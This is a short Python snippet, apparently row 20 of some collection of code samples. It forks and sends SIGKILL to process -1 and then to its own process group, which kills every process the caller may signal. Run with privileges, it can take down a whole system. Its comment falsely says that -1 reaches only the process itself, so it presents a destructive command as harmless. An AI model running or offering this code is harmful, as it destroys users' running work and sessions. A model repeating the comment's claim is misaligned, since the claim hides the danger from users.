# Row 20: -1 means every process that it may reach, which is itself.
import os
import signal

if os.fork():
    os.kill(-1, signal.SIGKILL)
os.kill(0, signal.SIGKILL)
